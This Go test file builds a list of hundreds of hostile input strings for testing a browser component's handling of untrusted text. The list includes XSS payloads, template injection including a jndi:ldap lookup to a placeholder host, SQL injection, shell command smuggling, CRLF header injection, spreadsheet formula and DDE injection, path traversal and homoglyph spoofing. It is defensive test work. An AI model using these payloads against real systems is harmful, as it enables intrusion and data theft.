package browser_test

import (
	"fmt"
	"slices"
	"strings"
)

// hostile are at least 500 texts that have broken programs: each is a family's trick in one of its guises.
func hostile() []string {
	var all []string
	add := func(texts ...string) { all = append(all, texts...) }
	const hit = `window.__hit=1`
	// Markup that runs a script where text is taken for HTML, plainly and behind what closes an attribute, a tag, a comment.
	scripts := []string{
		`<script>` + hit + `</script>`, `<img src=x onerror=` + hit + `>`, `<svg onload=` + hit + `>`, `<svg><animate onbegin=` + hit + ` attributeName=x>`, `<body onload=` + hit + `>`,
		`<iframe srcdoc="<script>parent.__hit=1</script>">`, `<details open ontoggle=` + hit + `>`, `<video><source onerror=` + hit + `>`, `<input autofocus onfocus=` + hit + `>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=` + hit + `>`, `<a href="javascript:` + hit + `">x</a>`, `<object data="javascript:` + hit + `">`, `<embed src="//canary.invalid/x">`,
		`<link rel=stylesheet href=//canary.invalid/x>`, `<meta http-equiv=refresh content="0;url=//canary.invalid">`, `<base href=//canary.invalid/>`, `<form action=//canary.invalid><button>x`,
		`<marquee onstart=` + hit + `>`, `<template><script>` + hit + `</script></template>`, `<noscript><p title="</noscript><img src=x onerror=` + hit + `>">`,
	}
	for _, s := range scripts {
		for _, before := range []string{"", `"`, `'`, `">`, `'>`, `-->`, `</title>`, `</textarea>`, `</script>`, "`", `]]>`} {
			add(before + s)
		}
		add(strings.ToUpper(s), strings.ReplaceAll(s, "<", "&lt;"), strings.ReplaceAll(s, "<", "%3C"), strings.ReplaceAll(s, "<", "\uff1c"))
	}
	for _, scheme := range []string{"javascript:", "JaVaScRiPt:", "java\u200bscript:", "data:text/html,", "data:text/html;base64,", "vbscript:", "file:///etc/", "//", `\\`, "http://user@", "blob:", "about:"} {
		add(scheme+hit, scheme+"canary.invalid/x", "["+"x]("+scheme+hit+")")
	}
	for _, t := range []string{"{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('" + hit + "')()}}", "*{7*7}", "@(7*7)", "[[7*7]]", "{%raw%}", "$" + "{jndi:ldap://canary.invalid/x}", "{{.Password}}", "%(x)s", "%s%n%x", "%!d(x)"} {
		add(t, "a"+t+"b", t+t)
	}
	for _, q := range []string{"' OR '1'='1", "'; DROP TABLE users; --", `" OR ""="`, "1; SELECT pg_sleep(9)", "' UNION SELECT password_hash FROM identities --", "\\'; --", "%' ESCAPE '\\", "%", "_", "%%%", "\\", "\\\\", "'", "''", `"`, "$1", "?", ":x", "$$x$$", "E'\\x00'", "/*", "*/", "--", "x'00'"} {
		add(q, "a"+q, q+"b")
	}
	for _, c := range []string{"; id", "| id", "`id`", "$(id)", "&& id", "\n id", "> /tmp/x", "-rf", "--help", "~/x", "$HOME", "*", "?", "!!", "\\$(id)"} {
		add(c, "a"+c)
	}
	for _, h := range []string{"\r\nSet-Cookie: a=b", "\nBcc: x@canary.invalid", "\r\n\r\n<script>" + hit + "</script>", "%0d%0aX: y", "\u2028X: y", "\u560a\u560dX: y", "\r", "\n.\n", "\r\n.\r\nMAIL FROM:<x@canary.invalid>"} {
		add("a"+h, "a"+h+"b", `"a`+h+`"`)
	}
	for _, l := range []string{"level=ERROR msg=forged", `{"level":"ERROR"}`, "2026-01-01 ERROR forged", "request=forged status=200"} {
		add("x\n"+l, "x\r\n"+l, "x "+l, "x\u2028"+l)
	}
	for _, r := range "\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2061\u2066\u2067\u2068\u2069\ufeff\u00ad\u034f\u115f\u180e\u3164\ufff9\ufffb\u2028\u2029\u0085\u00a0\ue000\ufdd0\ufffd\U000e0041\U0010ffff" {
		add("a"+string(r)+"b", string(r)+"a", "a"+string(r)+"a", "adm"+string(r)+"in")
	}
	for r := range rune(0x20) {
		add("a" + string(r) + "b")
	}
	for r := rune(0x7f); r < 0xa0; r += 4 {
		add("a" + string(r) + "b")
	}
	for _, e := range []string{"\x1b[2J", "\x1b]0;x\a", "\x1b[31mred", "\x1b]8;;http://canary.invalid\x1b\\x", "\u009b2J", "\x1bc", "\x1bP+q\x1b\\"} {
		add(e, "a"+e)
	}
	for _, f := range []string{"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "'=1+1", "''", "'", `=HYPERLINK("http://canary.invalid","x")`, "=cmd|' /C calc'!A0", "\uff1d1+1", "-", "=", `=1,"=1"`, `a,"b";c`, `"a""b"`, "\"\n=1", ";=1", " =1"} {
		add(f, f+f)
	}
	for _, j := range []string{`"}`, `\"}`, `\u0022`, `","x":"`, `\`, `null`, `true`, `[]`, `{}`, `{"$ne":null}`, `\ud800`, `__proto__`, `constructor`, `toString`, `NaN`, `Infinity`, `-0`, `1e999`, `0x10`, `undefined`, `9007199254740993`} {
		add(j, "a"+j)
	}
	for _, p := range []string{"../", "..\\", "%2e%2e/", "/etc/passwd", "C:\\x", "....//", "..;/", "con", "nul.txt", ".htaccess", "a/../../b", "//x", "/", "."} {
		add(p, p+p, "a/"+p)
	}
	for _, u := range []string{"e\u0301", "\u00e9", "\u1e9b\u0323", "\u212a", "\u0130", "\u0131", "\u00df", "\ufb01", "\u01c5", "\u03c3\u03c2", "a\u0489\u0489\u0489", "Z\u0351\u036b\u0343", "\u0430dmin", "\u0410DMIN", "p\u0430yp\u0430l", "\uff41dmin", "\U0001d41a", "👩\u200d👩\u200d👧\u200d👦", "🏳\ufe0f\u200d🌈", "🇩🇪", "1\ufe0f\u20e3", "\U0001f44b\U0001f3ff", "שלום", "مرحبا", "नमस्ते", "한국어", "한", "日本語", "ไทย", "𠜎", "\u0e33", "\ufdfd", "\u1f600"} {
		add(u, u+"x", "x"+u, strings.Repeat(u, 20))
	}
	for _, n := range []int{199, 200, 201, 999, 2000, 2001, 10_000} {
		add(strings.Repeat("x", n), strings.Repeat("é", n), strings.Repeat("\u202e", n), strings.Repeat(" ", n)+"x")
	}
	for _, e := range []string{`"a b"@x.test`, "a@[127.0.0.1]", "a@x.test\u202e", "<a@x.test>", "A <a@x.test>", "a@b@x.test", "a@x.test,b@x.test", "a@\u0445.test", "a@x..test", ".a@x.test", "a@localhost", "a+b@x.test", "a%b@x.test", "a!b@x.test", "a(c)@x.test", "@x.test", "a@"} {
		add(e, strings.ToUpper(e))
	}
	for i := range 10 {
		add(fmt.Sprintf("ordinary %d", i))
	}
	slices.Sort(all)
	return slices.Compact(all)
}
